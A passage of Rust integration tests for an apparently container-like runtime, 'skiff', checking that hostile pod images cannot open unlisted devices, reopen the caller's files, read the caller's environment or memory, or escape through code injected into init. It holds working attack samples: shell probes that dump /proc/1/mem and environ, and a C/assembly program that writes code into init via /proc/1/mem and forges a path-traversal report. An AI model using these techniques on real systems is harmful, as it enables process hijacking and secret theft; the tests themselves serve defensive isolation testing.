            stdout(&out).contains("timer=0 sysro=1"),
            "{flavor}: the kernel's paths were not hidden: {}",
            stdout(&out)
        );
        let out = run_pod(root, flavor, ",paths", &aci);
        assert!(out.status.success(), "{flavor}: {}", stderr(&out));
        let text = stdout(&out);
        assert!(
            text.contains("sysro=0") && !text.contains("timer=0 "),
            "{flavor}: --insecure-options=paths: {text}"
        );
        assert!(
            stderr(&out).contains("--insecure-options=paths: /proc and /sys paths"),
            "{}",
            stderr(&out)
        );
    }
}

/// `--device=/dev/fuse`: the one way past the device policy is the user's
/// word, for the device named; a pod without it has no /dev/fuse, and
/// with it still cannot open another device (a node of `loop0` it makes). Bad `--device` values are refused before
/// any pod exists.
#[test]
fn only_the_devices_the_user_passes_can_be_opened() {
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path();
    let _guard = PodsGuard { root };
    let script = "b=/bin/busybox; \
                  if [ -c /dev/fuse ] && (exec 3<>/dev/fuse) 2>/dev/null; then echo fuse=opened; else echo fuse=refused; fi; \
                  $b mknod /dev/made-loop b 7 0 2>/dev/null; \
                  if [ -b /dev/made-loop ] && (exec 3<>/dev/made-loop) 2>/dev/null; then echo made=opened; else echo made=refused; fi";
    let app = serde_json::json!({
        "exec": ["/bin/busybox", "sh", "-c", script], "user": "0", "group": "0"
    });
    let aci = hostile_image(root, &app.to_string());
    for flavor in ["ns", "oci"] {
        let run = |extra: &[&str]| {
            output(
                skiff_in(root)
                    .args(["--insecure-options=image", "run", "--net=none"])
                    .arg(format!("--stage1={flavor}"))
                    .args(extra)
                    .arg(&aci),
            )
        };
        let out = run(&[]);
        assert!(out.status.success(), "{flavor}: {}", stderr(&out));
        assert!(
            stdout(&out).contains("fuse=refused\nmade=refused"),
            "{flavor}: {}",
            stdout(&out)
        );
        let out = run(&["--device=/dev/fuse"]);
        assert!(out.status.success(), "{flavor}: {}", stderr(&out));
        assert!(
            stdout(&out).contains("fuse=opened\nmade=refused"),
            "{flavor} --device=/dev/fuse: {}",
            stdout(&out)
        );
    }
    let pods = || stdout(&output(skiff_in(root).args(["list", "--format=json"])));
    let before = pods();
    for (args, message) in [
        (vec!["--device=/etc/passwd"], "absolute path under /dev"),
        (vec!["--device=/dev/no-such-device"], "/dev/no-such-device"),
        (vec!["--device=/dev/net"], "not a device node"),
        (vec!["--device=/dev/null"], "already has it"),
        (
            vec!["--device=/dev/fuse", "--stage1=kvm"],
            "--stage1=ns or oci",
        ),
    ] {
        let out = output(
            skiff_in(root)
                .args(["--insecure-options=image", "run", "--net=none"])
                .args(&args)
                .arg(&aci),
        );
        assert_eq!(out.status.code(), Some(1), "{args:?}: {}", stderr(&out));
        assert!(stderr(&out).contains(message), "{args:?}: {}", stderr(&out));
    }
    assert_eq!(pods(), before);
}

/// A pod process reopening its stdio through `/proc/self/fd/N`: a file
/// the caller opened for appending (`>> out.log`) must not be truncated,
/// and a directory on stdin must not lead to its parent on the host; the
/// output still arrives in the file. `skiff run` (ns, oci) and `skiff enter`.
#[test]
fn pod_processes_cannot_reopen_the_callers_files() {
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path();
    let _guard = PodsGuard { root };
    let inner = root.join("given-dir");
    std::fs::create_dir_all(&inner).unwrap();
    std::fs::write(root.join("parent-marker-file"), "").unwrap();
    let attack = "b=/bin/busybox; $b ls /proc/self/fd/0/.. 2>&1; \
                  echo TRUNCATED > /proc/self/fd/1; echo ATTACK-DONE";
    let app = serde_json::json!({
        "exec": ["/bin/busybox", "sh", "-c", attack], "user": "0", "group": "0"
    });
    let aci = hostile_image(root, &app.to_string());
    let log = root.join("out.log");
    let check = |what: &str| {
        let text = std::fs::read_to_string(&log).unwrap();
        assert!(
            text.starts_with("SECRET-BEFORE\n"),
            "{what}: truncated: {text:?}"
        );
        assert!(
            text.contains("ATTACK-DONE"),
            "{what}: output lost: {text:?}"
        );
        assert!(
            !text.contains("parent-marker-file"),
            "{what}: reached the host directory: {text:?}"
        );
    };
    let streams = || {
        std::fs::write(&log, "SECRET-BEFORE\n").unwrap();
        let out = std::fs::OpenOptions::new().append(true).open(&log).unwrap();
        (std::fs::File::open(&inner).unwrap(), out)
    };
    for flavor in ["ns", "oci"] {
        let (dir, out) = streams();
        let status = skiff_in(root)
            .args(["--insecure-options=image", "run", "--net=none"])
            .arg(format!("--stage1={flavor}"))
            .arg(&aci)
            .stdin(dir)
            .stdout(out)
            .status()
            .unwrap();
        assert!(status.success(), "{flavor}");
        check(flavor);
    }
    // A device other than null and its kind on stdin: the pod gets a
    // pipe, not the device's fd (whose ioctls the device policy would not
    // see); /dev/null itself is passed as it is.
    for (device, expected) in [("/dev/fuse", "pipe:"), ("/dev/null", "/dev/null")] {
        let out = output(
            skiff_in(root)
                .args(["--insecure-options=image", "run", "--net=none"])
                .arg(&aci)
                .args(["--exec=/bin/busybox", "--", "readlink", "/proc/self/fd/0"])
                .stdin(std::fs::File::open(device).unwrap()),
        );
        assert!(out.status.success(), "{device}: {}", stderr(&out));
        assert!(
            stdout(&out).starts_with(expected),
            "{device}: {}",
            stdout(&out)
        );
    }
    // skiff enter, into a running pod.
    let out = output(
        skiff_in(root)
            .args(["--insecure-options=image", "run", "--detach", "--net=none"])
            .arg(&aci)
            .args(["--exec=/bin/busybox", "--", "sleep", "600"]),
    );
    assert!(out.status.success(), "{}", stderr(&out));
    let uuid = stdout(&out).trim().to_string();
    let (dir, out) = streams();
    let status = skiff_in(root)
        .args(["enter", "-i", &uuid, "/bin/busybox", "sh", "-c", attack])
        .stdin(dir)
        .stdout(out)
        .status()
        .unwrap();
    assert!(status.success());
    check("enter");
    // A command that leaves a writer behind: enter still returns once the
    // command has exited (a hang, not a slow machine, if it does not).
    let (dir, out) = streams();
    let mut child = skiff_in(root)
        .args(["enter", "-i", &uuid, "/bin/busybox", "sh", "-c"])
        .arg("(while :; do echo x; /bin/busybox sleep 0.02; done) & echo ATTACK-DONE")
        .stdin(dir)
        .stdout(out)
        .spawn()
        .unwrap();
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(300);
    let status = loop {
        if let Some(status) = child.try_wait().unwrap() {
            break status;
        }
        assert!(std::time::Instant::now() < deadline, "enter never returned");
        std::thread::sleep(std::time::Duration::from_millis(50));
    };
    assert!(status.success());
    let _ = output(skiff_in(root).args(["stop", "--force", &uuid]));
    // The check can fail: the same commands outside any pod.
    let (dir, out) = streams();
    let status = std::process::Command::new("/bin/sh")
        .args(["-c", &attack.replace("$b ", "")])
        .stdin(dir)
        .stdout(out)
        .status()
        .unwrap();
    assert!(status.success());
    let text = std::fs::read_to_string(&log).unwrap();
    assert!(text.starts_with("TRUNCATED"), "{text:?}");
    let listed = output(
        std::process::Command::new("/bin/ls")
            .arg("/proc/self/fd/0/..")
            .stdin(std::fs::File::open(&inner).unwrap()),
    );
    assert!(
        stdout(&listed).contains("parent-marker-file"),
        "{}",
        stdout(&listed)
    );
}

/// With `--cap-retain=CAP_SYS_PTRACE` (a debugging grant that must stay
/// inside the pod), a pod process may reopen what the pod's init holds
/// through /proc/1/fd and read its environment. Init holds nothing of the
/// host: not the caller's fds, no host directory (whose `..` leads out),
/// and none of the caller's environment.
#[test]
fn the_pods_init_holds_nothing_of_the_host() {
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path();
    let _guard = PodsGuard { root };
    std::fs::write(root.join("host-secret"), "HOST-SECRET-CONTENT\n").unwrap();
    let probe = "b=/bin/busybox; for f in /proc/1/fd/*; do n=${f##*/}; [ $n -le 2 ] && continue; \
                 echo fd $n: $($b readlink $f); [ -f $f ] && $b head -c 200 $f; \
                 [ -d $f ] && $b ls -a $f/.. $f/../..; done 2>&1; \
                 $b tr '\\0' '\\n' < /proc/1/environ; $b grep CapEff /proc/1/status; echo PROBE-DONE";
    let app = serde_json::json!({
        "exec": ["/bin/busybox", "sh", "-c", probe], "user": "0", "group": "0"
    });
    let aci = hostile_image(root, &app.to_string());
    // The caller has the secret open as fd 3 (and a token in its
    // environment) when it runs skiff.
    let out = output(
        std::process::Command::new("/bin/sh")
            .args(["-c", "exec \"$@\" 3<\"$SECRET\"", "sh"])
            .arg(env!("CARGO_BIN_EXE_skiff"))
            .env("SECRET", root.join("host-secret"))
            .env("SKIFF_DIR", root.join("data"))
            .env("CALLER_TOKEN", "TOKEN-VALUE-123")
            .arg("--local-config")
            .arg(root.join("etc"))
            .arg("--system-config")
            .arg(root.join("usr"))
            .args(["--insecure-options=image", "run", "--net=none"])
            .arg(&aci)
            .arg("--cap-retain=CAP_SYS_PTRACE"),
    );
    let text = stdout(&out);
    assert!(out.status.success(), "{text}{}", stderr(&out));
    assert!(text.contains("PROBE-DONE"), "{text}");
    // The probe could read init (the check can fail) ...
    assert!(text.contains("PATH="), "the probe cannot read init: {text}");
    // Init kept only CAP_KILL once the apps ran: code a tracing pod
    // process runs in it has no privilege over the host.
    assert!(text.contains("CapEff:\t0000000000000020"), "{text}");
    // ... and found nothing of the host or the caller.
    for leak in [
        "HOST-SECRET-CONTENT",
        "TOKEN-VALUE-123",
        "runtime.json",
        "stage1",
        "SKIFF_DIR",
    ] {
        assert!(!text.contains(leak), "init leaked {leak}: {text}");
    }
}

/// The program of the started `skiff` `pid` once it is a pod's supervisor
/// (once it calls itself skiff-stage1): `skiff` itself where stage1 runs
/// in its process, `skiff-stage1` where it was executed.
fn supervisor_exe(pid: u32) -> PathBuf {
    eventually("the started skiff to become the pod's supervisor", || {
        let comm = std::fs::read_to_string(format!("/proc/{pid}/comm")).unwrap_or_default();
        (comm.trim() == "skiff-stage1").then(|| {
            std::fs::read_link(format!("/proc/{pid}/exe")).expect("the supervisor's program")
        })
    })
}

/// A foreground start from the store runs stage1 in `skiff`'s own process
/// (no second program loaded), so the pod's init is a fork of the
/// process the caller started, with the caller's arguments and
/// environment in its memory. Neither reaches the pod or shows on the
/// host: the supervisor's /proc command line and environment are an
/// executed stage1's, init's command line is `skiff-init`, and init
/// (non-dumpable) is closed to the pod's processes. A pod granted
/// CAP_SYS_PTRACE, which could read init's memory, gets an executed
/// stage1 — and finds the caller's environment neither in
/// `/proc/1/environ` nor anywhere in init's memory (/proc/1/mem).
#[test]
fn a_pod_started_in_skiffs_own_process_sees_nothing_of_the_caller() {
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path();
    let _guard = PodsGuard { root };
    // Built from two halves, so that this script (in init's memory, as
    // part of the pod) does not hold it.
    let probe = "b=/bin/busybox; t=TOKEN-; t=${t}VALUE; \
                 echo environ: $($b tr '\\0' ' ' < /proc/1/environ 2>&1); \
                 echo cmdline: $($b tr '\\0' ' ' < /proc/1/cmdline); \
                 n=0; while read range perms offset dev inode name; do \
                   case $perms$name in r*\\[vsyscall\\]|r*\\[vvar*) continue;; r*) ;; *) continue;; esac; \
                   s=$((0x${range%-*})); e=$((0x${range#*-})); \
                   $b dd if=/proc/1/mem bs=4096 skip=$((s/4096)) count=$(((e-s)/4096)) 2>/dev/null; \
                   n=$((n+1)); \
                 done < /proc/1/maps > /init-memory; \
                 echo regions: $n bytes: $($b wc -c < /init-memory) found: $($b grep -a -c \"$t\" /init-memory); \
                 $b sleep 1; echo PROBE-DONE";
    let app = serde_json::json!({
        "exec": ["/bin/busybox", "sh", "-c", probe], "user": "0", "group": "0"
    });
    let aci = hostile_image(root, &app.to_string());
    let out = output(
        skiff_in(root)
            .args(["fetch", "--insecure-options=image"])
            .arg(&aci),
    );
    assert!(out.status.success(), "{}", stderr(&out));
    let token = format!("TOKEN-VALUE-{}", std::process::id());
    // Root's run of a stored image with no option `skiff` hands on, a
    // token in its environment and a marker among its arguments (an app's
    // environment: the pod's own business); `grant` given to the app.
    let run = |grant: &[&str]| {
        let child = std::process::Command::new(env!("CARGO_BIN_EXE_skiff"))
            .env("SKIFF_DIR", root.join("data"))
            .env("CALLER_TOKEN", &token)
            .arg("--local-config")
            .arg(root.join("etc"))
            .arg("--system-config")
            .arg(root.join("usr"))
            .args(["run", "--net=none", "example.com/hostile"])
            .args(grant)
            .arg("--set-env=MARK=ARGUMENT-MARK")
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .unwrap();
        let exe = supervisor_exe(child.id());
        let proc =
            |what: &str| std::fs::read(format!("/proc/{}/{what}", child.id())).unwrap_or_default();
        let cmdline = String::from_utf8_lossy(&proc("cmdline")).replace('\0', " ");
        let environ = String::from_utf8_lossy(&proc("environ")).replace('\0', " ");
        let out = child.wait_with_output().unwrap();
        let text = stdout(&out);
        assert!(out.status.success(), "{text}{}", stderr(&out));
        assert!(text.contains("PROBE-DONE"), "{text}");
        // What the host sees of the supervisor is an executed stage1's.
        assert!(cmdline.contains("-stage1 run --lock-fd="), "{cmdline}");
        assert!(environ.trim_start().starts_with("PATH="), "{environ}");
        assert!(text.contains("cmdline: skiff-init"), "{text}");
        for (what, shown) in [
            ("pod", text.as_str()),
            ("cmdline", &cmdline),
            ("environ", &environ),
        ] {
            for leak in [token.as_str(), "ARGUMENT-MARK", "SKIFF_DIR", "run --net"] {
                assert!(!shown.contains(leak), "{what} shows {leak}: {shown}");
            }
        }
        (exe, text)
    };

    // Stage1's code in skiff's process (the path under test), not an
    // executed skiff-stage1; init is closed to the pod.
    let (exe, text) = run(&[]);
    assert!(
        exe.ends_with("skiff"),
        "stage1 was executed: {}",
        exe.display()
    );
    assert!(
        text.contains("environ:\n"),
        "the pod read init's environment: {text}"
    );
    assert!(
        text.contains("regions: 0 "),
        "the pod read init's memory: {text}"
    );

    // Granted CAP_SYS_PTRACE: an executed stage1, whose init the probe
    // reads (the check can fail) and finds nothing of the caller in.
    let (exe, text) = run(&["--cap-retain=CAP_SYS_PTRACE"]);
    assert!(
        exe.ends_with("skiff-stage1"),
        "stage1 ran in skiff: {}",
        exe.display()
    );
    assert!(
        text.contains("environ: PATH="),
        "the probe cannot read init: {text}"
    );
    let bytes: u64 = text
        .split("bytes: ")
        .nth(1)
        .and_then(|rest| rest.split_whitespace().next()?.parse().ok())
        .unwrap_or(0);
    assert!(
        bytes > 1 << 20,
        "the probe read little of init's memory: {text}"
    );
    assert!(
        text.contains(" found: 0"),
        "init's memory holds the caller's environment: {text}"
    );

    // Pods prepared with capabilities or the kernel's paths granted (by
    // skiff-full: insecure options), started by `skiff`: executed too.
    for insecure in ["capabilities", "paths"] {
        let out = output(
            skiff_in(root)
                .arg(format!("--insecure-options=image,{insecure}"))
                .args(["prepare", "--net=none", "example.com/hostile"])
                .args(["--exec=/bin/busybox", "--", "sleep", "1"]),
        );
        assert!(out.status.success(), "{}", stderr(&out));
        let uuid = stdout(&out).trim().lines().last().unwrap().to_string();
        let child = skiff_in(root)
            .args(["run-prepared", &uuid])
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .unwrap();
        let exe = supervisor_exe(child.id());
        let out = child.wait_with_output().unwrap();
        assert!(out.status.success(), "{insecure}: {}", stderr(&out));
        assert!(
            exe.ends_with("skiff-stage1"),
            "{insecure}: stage1 ran in skiff: {}",
            exe.display()
        );
    }
}

/// Runs code in the pod's init, as a pod process granted CAP_SYS_PTRACE
/// can (the default seccomp filter refuses `ptrace` itself, not
/// `/proc/1/mem`): finds where init waits (`/proc/1/syscall`), writes code
/// there, makes an orphan exit so init's wait returns into it. The code
/// stores what `getpid`, `mkdirat("/injected")` and `openat("/apps")`
/// returned below init's stack pointer, writes a forged exit report naming
/// the app `../../../../../forged` (which would be written outside the pod
/// directory) on each of its first fds, signals its process group
/// (`kill(0, SIGUSR2)`: that must not reach the caller's), then waits until
/// the pod is empty and exits. Prints `getpid=.. mkdirat=.. openat=..` as init saw them.
const INIT_INJECTION_ATTACK: &str = r#"
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>

__asm__(
    ".globl code_start, code_end\n"
    "code_start:\n"
    "  mov $39, %eax\n"            /* getpid */
    "  syscall\n"
    "  mov %rax, -512(%rsp)\n"
    "  mov $258, %eax\n"           /* mkdirat(AT_FDCWD, "/injected", 0755) */
    "  mov $-100, %rdi\n"
    "  lea dir(%rip), %rsi\n"
    "  mov $0755, %edx\n"
    "  syscall\n"
    "  mov %rax, -520(%rsp)\n"
    "  mov $257, %eax\n"           /* openat(AT_FDCWD, "/apps", O_DIRECTORY) */
    "  mov $-100, %rdi\n"
    "  lea apps(%rip), %rsi\n"
    "  mov $0x10000, %edx\n"
    "  xor %r10, %r10\n"
    "  syscall\n"
    "  mov %rax, -528(%rsp)\n"
    "  xor %ebx, %ebx\n"           /* a forged exit report on fds 0..19 */
    "2:\n"
    "  mov $1, %eax\n"
    "  mov %rbx, %rdi\n"
    "  lea forged(%rip), %rsi\n"
    "  mov $(forged_end - forged), %edx\n"
    "  syscall\n"
    "  inc %ebx\n"
    "  cmp $20, %ebx\n"
    "  jne 2b\n"
    "  mov $62, %eax\n"           /* kill(0, SIGUSR2): init's process group */
    "  xor %edi, %edi\n"
    "  mov $12, %esi\n"
    "  syscall\n"
    "1:\n"
    "  mov $61, %eax\n"            /* wait4(-1, 0, 0, 0) until ECHILD */
    "  mov $-1, %rdi\n"
    "  xor %esi, %esi\n"
    "  xor %edx, %edx\n"
    "  xor %r10, %r10\n"
    "  syscall\n"
    "  cmp $-10, %rax\n"
    "  jne 1b\n"
    "  mov $231, %eax\n"           /* exit_group(0) */
    "  xor %edi, %edi\n"
    "  syscall\n"
    "dir: .asciz \"/injected\"\n"
    "apps: .asciz \"/apps\"\n"
    "forged: .ascii \"{\\\"exit\\\":{\\\"app\\\":\\\"../../../../../forged\\\",\\\"status\\\":7}}\\n\"\n"
    "forged_end:\n"
    "code_end:\n");
extern char code_start[], code_end[];

int main(void) {
    unsigned long nr = 0, sp = 0, pc = 0, a[6];
    for (int tries = 0; tries < 500; tries++) {
        FILE *f = fopen("/proc/1/syscall", "r");
        if (!f) { perror("open /proc/1/syscall"); return 1; }
        int n = fscanf(f, "%lu %lx %lx %lx %lx %lx %lx %lx %lx", &nr, &a[0], &a[1], &a[2],
                       &a[3], &a[4], &a[5], &sp, &pc);
        fclose(f);
        if (n == 9 && (nr == 61 || nr == 247)) break;
        nr = 0;
        usleep(10000);
    }
    if (nr == 0) { printf("init is not waiting\n"); return 1; }
    int mem = open("/proc/1/mem", O_RDWR);
    if (mem < 0) { perror("open /proc/1/mem"); return 1; }
    long marker = 0x4141414141414141;
    for (int off = 512; off <= 528; off += 8)
        if (pwrite(mem, &marker, 8, sp - off) != 8) { perror("write init's stack"); return 1; }
    size_t len = code_end - code_start;
    if (pwrite(mem, code_start, len, pc) != (ssize_t)len) { perror("write init's code"); return 1; }
    printf("code written into init\n");
    fflush(stdout);
    /* An orphan (re-parented to init) exits: init's wait returns into the code. */
    pid_t child = fork();
    if (child == 0) {
        if (fork() == 0) { usleep(100000); _exit(0); }
        _exit(0);
    }
    waitpid(child, 0, 0);
    long got[3] = {marker, marker, marker};
    for (int tries = 0; tries < 500 && got[2] == marker; tries++) {
        usleep(10000);
        for (int i = 0; i < 3; i++)
            if (pread(mem, &got[i], 8, sp - 512 - 8 * i) != 8) { perror("read init's stack"); return 1; }
    }
    if (got[2] == marker) { printf("the code did not run\n"); return 1; }
    printf("getpid=%ld mkdirat=%ld openat=%ld\n", got[0], got[1], got[2]);
    return 0;
}
"#;

#[test]
fn code_injected_into_init_can_do_nothing_but_wait_and_signal() {
    use std::os::unix::process::CommandExt;
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path();
    let _guard = PodsGuard { root };
    let aci = c_program_image(root, "inject", INIT_INJECTION_ATTACK);
    // skiff in a process group of its own: the one init's kill(0) would
    // reach if init shared it.
    let out = output(
        skiff_in(root)
            .args(["--insecure-options=image", "run", "--net=none"])
            .arg(&aci)
            .args(["--cap-retain=CAP_SYS_PTRACE", "--exec=/inject"])
            .process_group(0),
    );
    assert_eq!(
        std::os::unix::process::ExitStatusExt::signal(&out.status),
        None,
        "init's kill(0) reached skiff: {}",
        stdout(&out)
    );
    let text = stdout(&out);
    // The injection itself worked (the check can fail): the code ran as
    // the pod's pid 1 ...
    assert!(
        text.contains("code written into init"),
        "{text}{}",
        stderr(&out)
    );
    assert!(text.contains("getpid=1 "), "{text}{}", stderr(&out));
    // ... and could neither create nor open anything (EPERM) ...
    assert!(
        text.contains("mkdirat=-1 openat=-1"),
        "{text}{}",
        stderr(&out)
    );
    // ... nor have the supervisor write outside the pod for it.
    assert!(
        !root.join("forged").exists(),
        "a forged report wrote on the host: {text}"
    );
}

#[test]
fn an_apps_event_handler_keeper_is_confined_like_the_app() {
    // With event handlers a process stays as the app's parent to run them:
    // a pod process that can trace it (CAP_SYS_PTRACE) must find it no
    // more privileged than itself.
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path();
    let _guard = PodsGuard { root };
    let probe = "b=/bin/busybox; f='^(Uid|Gid|CapInh|CapPrm|CapEff|CapBnd|CapAmb|NoNewPrivs|Seccomp):'; \
                 $b grep -E \"$f\" /proc/$PPID/status > /keeper; \
                 $b grep -E \"$f\" /proc/self/status > /app; \
                 $b cat /keeper; $b cmp /keeper /app && echo SAME";
    let app = serde_json::json!({
        "exec": ["/bin/busybox", "sh", "-c", probe], "user": "0", "group": "0",
        "eventHandlers": [{"name": "post-stop", "exec": ["/bin/busybox", "true"]}]
    });
    let aci = hostile_image(root, &app.to_string());
    let out = output(
        skiff_in(root)
            .args(["--insecure-options=image", "run", "--net=none"])
            .arg(&aci)
            .arg("--cap-retain=CAP_SYS_PTRACE"),
    );
    let text = stdout(&out);
    assert!(out.status.success(), "{text}{}", stderr(&out));
    assert!(text.contains("Seccomp:\t2"), "{text}");
    assert!(
        text.contains("SAME"),
        "the keeper differs from the app: {text}"
    );
}

#[test]
fn an_image_that_retains_only_its_own_calls_can_still_have_event_handlers() {
    // The image's retain-set leaves out fork and wait: its app never
    // needs them, but the keeper that runs its handlers does. The keeper
    // gets them; the app runs under the image's exact filter.
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path();
    let _guard = PodsGuard { root };
    let app = serde_json::json!({
        "exec": ["/bin/busybox", "echo", "app-ran"], "user": "0", "group": "0",
        "eventHandlers": [{"name": "post-stop", "exec": ["/bin/busybox", "true"]}],
        "isolators": [{"name": "os/linux/seccomp-retain-set", "value": {
            "set": ["execve", "write", "exit", "exit_group", "brk", "mmap", "munmap",
                    "mprotect", "arch_prctl", "set_tid_address", "rt_sigaction",
                    "rt_sigprocmask", "getuid", "geteuid", "getpid", "ioctl", "read",
                    "close", "fstat", "newfstatat", "prlimit64", "uname"],
            "errno": "ENOSYS"}}]
    });
    let aci = hostile_image(root, &app.to_string());
    let out = output(
        skiff_in(root)
            .args(["--insecure-options=image", "run", "--net=none"])
            .arg(&aci),
    );
    let text = stdout(&out);
    assert!(out.status.success(), "{text}{}", stderr(&out));
    assert!(text.contains("app-ran"), "{text}{}", stderr(&out));
    // The app itself was held to the retain-set: a call outside it fails.
    let probe = serde_json::json!({
                "exec": ["/bin/busybox", "sh", "-c", "echo probe-ran; /bin/busybox true && echo forked"], "user": "0", "group": "0",
        "eventHandlers": [{"name": "post-stop", "exec": ["/bin/busybox", "true"]}],
        "isolators": [{"name": "os/linux/seccomp-remove-set", "value": {
            "set": ["clone", "fork", "vfork", "clone3"], "errno": "EPERM"}}]
    });
    let aci = hostile_image(root, &probe.to_string());
    let out = output(
        skiff_in(root)
            .args(["--insecure-options=image", "run", "--net=none"])
            .arg(&aci),
    );
    assert!(
        stdout(&out).contains("probe-ran"),
        "{}{}",
        stdout(&out),
        stderr(&out)
    );
    assert!(
        !stdout(&out).contains("forked"),
        "the app forked under a filter that removes fork: {}{}",
        stdout(&out),
        stderr(&out)
    );
}
